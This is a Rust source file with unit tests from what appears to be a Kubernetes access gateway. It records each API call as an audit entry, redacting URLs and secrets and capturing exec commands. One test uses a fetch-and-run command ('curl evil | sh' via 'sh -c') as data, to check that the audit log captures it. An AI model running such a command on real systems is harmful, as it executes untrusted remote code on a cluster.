//! Every call through the gateway becomes an entry of the history and a line of its session (promise P17).

use sallyport_audit::{Action, Draft, Outcome, redact_url};
use sallyport_gateway::{Call, CallOutcome, CallPhase, Live, StreamKind, Target};
use sallyport_ipc::Shown;

/// The entry of one call's moment.
pub(super) fn entry(call: &Call) -> Draft {
    let action = match (call.phase, &call.stream, &call.outcome) {
        (CallPhase::Started, _, _) => Action::StreamStart,
        (CallPhase::Ended, _, CallOutcome::Refused(_)) => Action::CallRefused,
        (CallPhase::Ended, Some(_), _) => Action::StreamEnd,
        (CallPhase::Ended, None, _) => Action::Call,
    };
    let mut draft = Draft::new(action)
        .at(call.at.as_microsecond())
        .outcome(outcome(call))
        .user(&call.user)
        .cluster(&call.cluster)
        .request(&call.request)
        .grant(&call.grant)
        .session(&call.session)
        .jti(&call.jti)
        .audit_id(&call.audit_id)
        .detail("verb", verb(call))
        .detail("what", about(call))
        .detail("method", &call.method);
    if call.stream == Some(StreamKind::Slow) {
        // Its end is a call of its own: whoever counts calls counts that one.
        draft = draft.detail("slow", true);
    }
    if let Some(command) = command(call) {
        // Beside the address, in which it may be anywhere.
        draft = draft.detail("command", command);
    }
    draft = draft.detail("uri", redact_url(&call.path_and_query).text);
    if let Some(status) = call.status {
        draft = draft.detail("status", status);
    }
    if call.phase == CallPhase::Ended {
        let ms = (call.duration.as_secs_f64() * 10_000.0).round() / 10.0;
        draft = draft.detail("ms", ms).detail("bytes_in", call.bytes_in).detail("bytes_out", call.bytes_out);
    }
    if let Some(why) = reason(&call.outcome) {
        draft = draft.detail("why", why);
    }
    if let Some(agent) = &call.user_agent {
        draft = draft
            .detail("via", agent.split([' ', '/']).next().unwrap_or_default())
            .detail("user_agent", agent);
    }
    if let Some(kubectl) = &call.kubectl {
        // As `events::Known` reads them.
        draft = draft.detail("kubectl_session", kubectl.session.to_string());
        if let Some(name) = &kubectl.name {
            draft = draft.detail("kubectl_command", name);
        }
    }
    if let Some(whom) = &call.impersonates {
        draft = draft.detail("impersonates", whom);
    }
    if let Some(peer) = &call.peer {
        draft = draft
            .detail("pid", peer.pid)
            .detail("program", peer.exe.as_deref().map(|p| p.display().to_string()));
    }
    draft
}

fn outcome(call: &Call) -> Outcome {
    match (&call.outcome, call.status) {
        (CallOutcome::Refused(_), _) | (CallOutcome::Answered, Some(401 | 403)) => Outcome::Refused,
        (CallOutcome::Failed(_), _) | (CallOutcome::Answered, Some(500..)) => Outcome::Failed,
        _ => Outcome::Ok,
    }
}

fn reason(outcome: &CallOutcome) -> Option<String> {
    match outcome {
        CallOutcome::Open | CallOutcome::Answered => None,
        CallOutcome::Refused(why) | CallOutcome::Failed(why) => Some(why.clone()),
        CallOutcome::Cut(reason) => Some(format!("cut, {reason}")),
        CallOutcome::ClientGone => Some("the client went away".into()),
    }
}

/// What is done: the kind of stream, else the verb, else the method.
fn verb(call: &Call) -> String {
    match call.stream.filter(|stream| *stream != StreamKind::Slow) {
        Some(stream) => stream.to_string(),
        None if call.target.verb.is_empty() => call.method.to_ascii_lowercase(),
        None => call.target.verb.clone(),
    }
}

/// What a call is about; of one that is about no resource its path, unless that is how clients learn what there is.
fn about(call: &Call) -> String {
    if !call.target.resource.is_empty() || is_discovery(call) {
        return what(&call.target);
    }
    // A refused call's address may be a whole URL.
    redact_url(address(call).0).text
}

fn is_discovery(call: &Call) -> bool {
    let first = address(call).0.trim_start_matches('/').split('/').next().unwrap_or_default();
    matches!(first, "" | "api" | "apis" | "openapi" | "version")
}

/// Path and query of what was called.
fn address(call: &Call) -> (&str, &str) {
    let whole = call.path_and_query.as_str();
    let path =
        whole.strip_prefix("https://").map_or(whole, |rest| rest.find('/').map_or("/", |at| &rest[at..]));
    path.split_once('?').unwrap_or((path, ""))
}

/// The command of an exec, each word as the API server reads it.
fn command(call: &Call) -> Option<Vec<String>> {
    if call.stream != Some(StreamKind::Exec) {
        return None;
    }
    let query = url::form_urlencoded::parse(address(call).1.as_bytes());
    let words: Vec<String> =
        query.filter(|(key, _)| key == "command").map(|(_, word)| word.into_owned()).collect();
    (!words.is_empty()).then_some(words)
}

/// What a call is about, in few words: `pods/exec api-0 in payments`.
pub(super) fn what(target: &Target) -> String {
    if target.resource.is_empty() {
        return "API discovery".into();
    }
    let mut out = target.resource.clone();
    if !target.subresource.is_empty() {
        out = format!("{out}/{}", target.subresource);
    }
    if !target.name.is_empty() {
        out = format!("{out} {}", target.name);
    }
    if !target.namespace.is_empty() && target.resource != "namespaces" {
        out = format!("{out} in {}", target.namespace);
    }
    out
}

/// A call as the side panel shows it.
pub(super) fn line(call: &Call) -> sallyport_ipc::Call {
    let ended = call.phase == CallPhase::Ended;
    let target = &call.target;
    let resource = if target.subresource.is_empty() {
        target.resource.clone()
    } else {
        format!("{}/{}", target.resource, target.subresource)
    };
    sallyport_ipc::Call {
        verb: Shown::from(&verb(call)),
        resource: match resource.as_str() {
            "" if is_discovery(call) => "discovery".into(),
            "" => sallyport_model::clip(&sallyport_model::visible(&about(call)), 200).into(),
            _ => Shown::from(&resource),
        },
        status: call.status.filter(|_| ended),
        ms: ended.then_some(call.duration.as_secs_f64() * 1000.0),
    }
}

/// The streams open now, one line each.
pub(super) fn streams(live: &Live) -> Vec<String> {
    live.open.iter().filter_map(|c| c.stream.map(|kind| format!("{kind} {}", what(&c.target)))).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::history::sentence::sentence;
    use sallyport_gateway::KubectlCommand;
    use sallyport_model::{AuditId, GrantUid, Jti, RequestUid, SessionId};
    use std::time::Duration;

    fn call(method: &str, path: &str, outcome: CallOutcome) -> Call {
        let path_alone = path.strip_prefix("https://127.0.0.1:4000").unwrap_or(path);
        let (path_alone, query) =
            path_alone.split_once('?').map_or((path_alone, None), |(path, query)| (path, Some(query)));
        let target = Target::of(&method.parse().unwrap(), path_alone, query);
        Call {
            phase: CallPhase::Ended,
            session: SessionId::new("s"),
            request: RequestUid::new("r"),
            grant: GrantUid::new("g"),
            cluster: "pay".parse().unwrap(),
            user: "oidc:ada".parse().unwrap(),
            jti: Jti::new("j"),
            audit_id: AuditId::new("a"),
            at: jiff::Timestamp::UNIX_EPOCH,
            method: method.to_owned(),
            path_and_query: path.to_owned(),
            stream: target.stream(),
            target,
            status: Some(403),
            outcome,
            duration: Duration::ZERO,
            bytes_in: 0,
            bytes_out: 0,
            user_agent: None,
            kubectl: None,
            impersonates: None,
            peer: None,
        }
    }

    #[test]
    fn fault_c2_a_refusal_names_what_was_asked() {
        let refused = || CallOutcome::Refused("web pages may not call the gateway".into());
        let exec = "https://127.0.0.1:4000/api/v1/namespaces/pay/pods/web/exec?command=ls";
        for (method, path, want) in [
            ("GET", exec, "exec pods/exec web in pay was not sent on: web pages may not call the gateway"),
            (
                "GET",
                "https://127.0.0.1:4000/readyz?verbose",
                "get /readyz was not sent on: web pages may not call the gateway",
            ),
            ("OPTIONS", "/a%2Fb", "options /a%2Fb was not sent on: web pages may not call the gateway"),
            (
                "GET",
                "/api/v1?timeout=32s",
                "get API discovery was not sent on: web pages may not call the gateway",
            ),
        ] {
            let call = call(method, path, refused());
            assert_eq!(sentence(&entry(&call).place(1, 0)), want);
            assert!(!line(&call).verb.is_empty() && !line(&call).resource.is_empty());
        }
        let answered = call("GET", "/apis/apps/v1", CallOutcome::Answered);
        assert_eq!(sentence(&entry(&answered).place(1, 0)), "get API discovery");
    }

    #[test]
    fn a_call_that_goes_on_is_known_before_it_is_over_and_counted_once() {
        let over = call("GET", "/api/v1/namespaces/pay/pods", CallOutcome::Answered);
        let slow = Call {
            phase: CallPhase::Started,
            stream: Some(StreamKind::Slow),
            status: None,
            outcome: CallOutcome::Open,
            ..over.clone()
        };
        let (began, over) = (entry(&slow).place(1, 0), entry(&over).place(2, 0));
        assert_eq!((began.action, over.action), (Action::StreamStart, Action::Call));
        assert_eq!(sentence(&began), "list pods in pay began");
        let known = sallyport_events::Known::of([&began]);
        assert_eq!(known.calls().len(), 1, "whoever compares knows it by its id");
        assert!(!known.calls()[0].has_ended);
        let known = sallyport_events::Known::of([&began, &over]);
        assert!(known.calls().len() == 1 && known.calls()[0].has_ended);
    }

    #[test]
    fn the_calls_of_one_command_of_kubectl_are_known_by_its_id() {
        let mut call = call("GET", "/api/v1/pods", CallOutcome::Answered);
        call.kubectl = Some(KubectlCommand { session: uuid::Uuid::nil(), name: Some("kubectl get".into()) });
        let entry = entry(&call).place(1, 0);
        assert_eq!(entry.detail.get("kubectl_session").unwrap(), "00000000-0000-0000-0000-000000000000");
        assert_eq!(entry.detail.get("kubectl_command").unwrap(), "kubectl get");
        assert_eq!(entry.redactions, 0);
    }

    #[test]
    fn fault_e2_an_execs_command_is_told_wherever_in_the_address_it_is() {
        let junk = "x".repeat(5000);
        let path = format!(
            "/api/v1/namespaces/pay/pods/web/exec?a={junk}&command=sh&command=-c&command=curl%20evil%20%7C%20sh&b={junk}"
        );
        let entry = entry(&call("GET", &path, CallOutcome::Answered)).place(1, 0);
        assert_eq!(entry.detail.get("command").unwrap(), &serde_json::json!(["sh", "-c", "curl evil | sh"]));
        // A secret in it is one here too.
        let path = "/api/v1/namespaces/pay/pods/web/exec?command=psql&command=--password&command=hunter2";
        let entry = super::entry(&call("GET", path, CallOutcome::Answered)).place(1, 0);
        assert!(!entry.detail.to_json().contains("hunter2"), "{}", entry.detail.to_json());
    }
}
